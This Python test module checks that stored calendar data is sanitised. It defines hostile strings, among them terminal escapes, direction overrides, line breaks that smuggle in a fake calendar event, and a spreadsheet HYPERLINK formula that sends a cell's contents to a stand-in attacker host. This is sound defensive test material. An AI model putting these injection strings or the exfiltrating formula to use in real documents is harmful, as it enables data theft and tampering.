"""Text as nobody should send it, and what must have become of it wherever it is shown."""

import unicodedata

from icalendar import Calendar

CONTROLS = "\x1b[31mred \x07\x1b]0;title\x07 \x9b1m \x85 \x7f \b \f \v \t"
DIRECTIONS = (
    "\u202ekcab\u202c \u2066isolated\u2069 \u200f\u05e9\u05dc\u05d5\u05dd \ufeff \U000e0041"
)
BREAKS = "one\r\ntwo\rthree\u2028four\u2029five\nBEGIN:VEVENT\nSUMMARY:smuggled"
EMOJI = "👩\u200d💻 👨\u200d👩\u200d👧 🇩🇪 ☺️ " + "a" + "\u0301" * 30
WRITTEN = (
    r"""back\slash \n \, \; "quoted" 'so' ; , : =?utf-8?q?=0ABcc:_x?= <b>&amp;</b> %s {me} {0}"""
)
FORMULA = '=HYPERLINK("http://evil.example.test/?"&A1)'
HOSTILE = f"{CONTROLS} {DIRECTIONS} {BREAKS} {EMOJI} {WRITTEN} \udc80\udcff"
"""All of it in a few hundred characters, lone surrogates among them."""

LONG = "giant " + "x" * 10_000
"""Ten thousand characters without a blank."""

ONE_LINE = f"{DIRECTIONS} {EMOJI} {WRITTEN}"
"""What a name may hold: it has no control characters and stands on one line."""


LONGEST_OCTETS = 75


def unsafe(text: str) -> set[str]:
    """What in the text is a control or format character, the line breaks left out."""
    bad = ("Cc", "Cf", "Cs", "Zl", "Zp")
    return {c for c in text if c != "\n" and unicodedata.category(c) in bad}


def widest(text: str) -> int:
    """The number of characters in the longest line."""
    return max(map(len, text.split("\n")), default=0)


def assert_well_formed(stored: str, *, folded: bool) -> None:
    """Check a calendar object: it can be read, and its values hold no controls.

    Where it is as connectd wrote it, lines are ``folded`` by octets (RFC 5545 section 3.1).
    """
    lines = stored.replace("\r\n", "\n").split("\n")
    too_long = [line for line in lines if folded and len(line.encode()) > LONGEST_OCTETS]
    assert too_long == [], too_long
    for component in Calendar.from_ical(stored).walk():
        for name, value in component.property_items():
            text = value if isinstance(value, str) else ""
            assert unsafe(text) == set(), (name, text)
    assert "smuggled" not in [str(e.get("SUMMARY")) for e in Calendar.from_ical(stored).events]
